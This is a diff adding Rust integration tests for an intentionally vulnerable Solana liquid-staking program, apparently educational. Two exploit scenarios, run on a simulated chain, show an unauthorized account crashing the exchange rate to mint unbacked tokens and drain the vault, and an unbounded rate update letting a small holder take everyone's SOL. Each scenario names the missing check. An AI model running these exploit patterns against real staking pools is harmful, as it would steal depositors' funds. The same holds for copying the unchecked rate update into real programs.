@@ -0,0 +1,213 @@
+// Integration tests for LST-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/lst/lst-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{native_token::LAMPORTS_PER_SOL, signature::{Keypair, Signer}};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// EXPLOIT: V001 - Missing crank check on update_exchange_rate
+// Demonstrates: An outsider crashes the rate, mints unbacked LST, and drains the vault
+struct AnyoneUpdatesRate;
+
+struct AnyoneUpdatesRateState {
+    scenario: LstScenario,
+    victim: Keypair,
+    attacker: Keypair,
+}
+
+impl ExploitScenario for AnyoneUpdatesRate {
+    type State = AnyoneUpdatesRateState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Unbacked LST Mint - Missing Crank Authorization",
+            severity: Severity::Critical,
+            lesson: "Only a recorded crank may move the exchange rate: has_one = crank",
+        }
+    }
+
+    fn setup(&self) -> AnyoneUpdatesRateState {
+        println!("This test demonstrates how a permissionless exchange rate lets an attacker");
+        println!("mint LST for almost nothing and redeem it for everyone else's SOL.");
+        println!();
+
+        let mut scenario = setup_lst_scenario();
+        let victim = stake(&mut scenario, 10 * LAMPORTS_PER_SOL);
+        println!("[Setup] Victim staked 10 SOL for {} LST", lst_balance(&scenario.svm, &scenario.pool, &victim.pubkey()) / ONE_LST);
+
+        let attacker = create_staker(&mut scenario, LAMPORTS_PER_SOL);
+        AnyoneUpdatesRateState { scenario, victim, attacker }
+    }
+
+    fn exploit(&self, state: &mut AnyoneUpdatesRateState) -> TransactionResult {
+        let AnyoneUpdatesRateState { scenario, attacker, .. } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker (not the crank) sets the rate to 1 lamport per LST");
+        println!("[EXPLOIT] In secure version, this should FAIL with Unauthorized");
+        let ix = build_update_rate_ix(&attacker.pubkey(), &scenario.pool, 1);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut AnyoneUpdatesRateState) -> u64 {
+        let AnyoneUpdatesRateState { scenario, victim, attacker } = state;
+        let pool = scenario.pool;
+        let attacker_deposit = 1_000_000;
+
+        println!("[EXPLOIT] Attacker deposits 0.001 SOL");
+        let ix = build_deposit_ix(&attacker.pubkey(), &pool, attacker_deposit);
+        send_ix(&mut scenario.svm, ix, attacker).expect("Deposit should succeed");
+        let minted = lst_balance(&scenario.svm, &pool, &attacker.pubkey());
+        assert_eq!(minted, 1_000_000 * ONE_LST);
+        println!("[RESULT] Attacker received {} LST for 0.001 SOL", minted / ONE_LST);
+
+        println!("[EXPLOIT] Attacker restores the rate to 1 SOL per LST and redeems the vault");
+        let ix = build_update_rate_ix(&attacker.pubkey(), &pool, RATE_PRECISION);
+        send_ix(&mut scenario.svm, ix, attacker).expect("Rate restore should succeed");
+
+        let vault_balance = sol_balance(&scenario.svm, &scenario.sol_vault);
+        let attacker_before = sol_balance(&scenario.svm, &attacker.pubkey());
+        let ix = build_withdraw_ix(&attacker.pubkey(), &pool, vault_balance);
+        let result = send_ix(&mut scenario.svm, ix, attacker);
+
+        println!();
+        println!("[RESULT] Vault drain: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
+        assert!(result.is_ok(), "Withdraw should succeed: {:?}", result.err());
+
+        let gained = sol_balance(&scenario.svm, &attacker.pubkey()) - attacker_before;
+        assert_eq!(sol_balance(&scenario.svm, &scenario.sol_vault), 0);
+        assert!(gained > 10 * LAMPORTS_PER_SOL - 10_000, "Attacker should net the victim's stake");
+        assert_eq!(lst_balance(&scenario.svm, &pool, &victim.pubkey()), 10 * ONE_LST);
+        println!("[IMPACT] Attacker paid 0.001 SOL and withdrew {} lamports", vault_balance);
+        println!("[IMPACT] Attacker still holds {} unbacked LST", lst_balance(&scenario.svm, &pool, &attacker.pubkey()) / ONE_LST);
+        println!("[IMPACT] Victim holds 10 LST and the vault is empty");
+
+        10 * LAMPORTS_PER_SOL
+    }
+}
+
+#[test]
+fn test_exploit_anyone_updates_rate() {
+    run_exploit(&AnyoneUpdatesRate);
+}
+
+// EXPLOIT: V002 - No bounds on the new rate
+// Demonstrates: One bad crank update lets a small holder redeem the whole vault
+struct UnboundedRateUpdate;
+
+struct UnboundedRateUpdateState {
+    scenario: LstScenario,
+    small: Keypair,
+    large: Keypair,
+}
+
+impl ExploitScenario for UnboundedRateUpdate {
+    type State = UnboundedRateUpdateState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Over-Redemption - Unbounded Exchange Rate",
+            severity: Severity::High,
+            lesson: "Bound every rate update and check it against the SOL that backs the LST",
+        }
+    }
+
+    fn setup(&self) -> UnboundedRateUpdateState {
+        println!("This test demonstrates how accepting any rate - even from the real crank -");
+        println!("lets LST holders redeem more SOL than the vault holds for them.");
+        println!();
+
+        let mut scenario = setup_lst_scenario();
+        let small = stake(&mut scenario, LAMPORTS_PER_SOL);
+        let large = stake(&mut scenario, 10 * LAMPORTS_PER_SOL);
+        println!("[Setup] Small staker: 1 LST, large staker: 10 LST, vault: 11 SOL");
+
+        UnboundedRateUpdateState { scenario, small, large }
+    }
+
+    fn exploit(&self, state: &mut UnboundedRateUpdateState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        println!();
+        println!("[EXPLOIT] Crank submits 100x the correct rate (bug, typo, or stolen key)");
+        println!("[EXPLOIT] In secure version, this should FAIL with RateChangeTooLarge / RateNotBacked");
+        let ix = build_update_rate_ix(&scenario.crank.pubkey(), &scenario.pool, 100 * RATE_PRECISION);
+        send_ix(&mut scenario.svm, ix, &scenario.crank)
+    }
+
+    fn assert_impact(&self, state: &mut UnboundedRateUpdateState) -> u64 {
+        let UnboundedRateUpdateState { scenario, small, large } = state;
+        let pool = scenario.pool;
+        assert_eq!(get_exchange_rate(&scenario.svm, &pool), 100 * RATE_PRECISION);
+
+        println!("[EXPLOIT] Small staker burns 0.11 LST (now 'worth' 11 SOL)");
+        let ix = build_withdraw_ix(&small.pubkey(), &pool, 110_000_000);
+        let result = send_ix(&mut scenario.svm, ix, small);
+
+        println!();
+        println!("[RESULT] Over-redemption: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
+        assert!(result.is_ok(), "Withdraw should succeed: {:?}", result.err());
+
+        assert_eq!(sol_balance(&scenario.svm, &scenario.sol_vault), 0);
+        assert_eq!(lst_balance(&scenario.svm, &pool, &large.pubkey()), 10 * ONE_LST);
+        assert!(lst_supply(&scenario.svm, &pool) > 0);
+        println!("[IMPACT] Small staker took all 11 SOL and still holds 0.89 LST");
+        println!("[IMPACT] Large staker's 10 LST are backed by nothing");
+
+        let ix = build_withdraw_ix(&large.pubkey(), &pool, ONE_LST / 1_000);
+        assert!(send_ix(&mut scenario.svm, ix, large).is_err(), "Vault is empty");
+        println!("[IMPACT] Large staker cannot redeem even 0.001 LST");
+
+        10 * LAMPORTS_PER_SOL
+    }
+}
+
+#[test]
+fn test_exploit_unbounded_rate_update() {
+    run_exploit(&UnboundedRateUpdate);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal staking lifecycle");
+
+    let mut scenario = setup_lst_scenario();
+    let pool = scenario.pool;
+    assert_eq!(get_exchange_rate(&scenario.svm, &pool), RATE_PRECISION);
+    println!("[Success] Pool created at 1 SOL per LST");
+
+    let staker = stake(&mut scenario, 10 * LAMPORTS_PER_SOL);
+    assert_eq!(lst_balance(&scenario.svm, &pool, &staker.pubkey()), 10 * ONE_LST);
+    println!("[Success] 10 SOL staked for 10 LST");
+
+    let ix = build_update_rate_ix(&scenario.crank.pubkey(), &pool, RATE_PRECISION);
+    send_ix(&mut scenario.svm, ix, &scenario.crank).expect("Crank update should succeed");
+    println!("[Success] Crank updated the rate");
+
+    let ix = build_withdraw_ix(&staker.pubkey(), &pool, 10 * ONE_LST);
+    send_ix(&mut scenario.svm, ix, &staker).expect("Withdraw should succeed");
+    assert_eq!(sol_balance(&scenario.svm, &scenario.sol_vault), 0);
+    assert_eq!(lst_supply(&scenario.svm, &pool), 0);
+    println!("[Success] 10 LST redeemed for 10 SOL");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}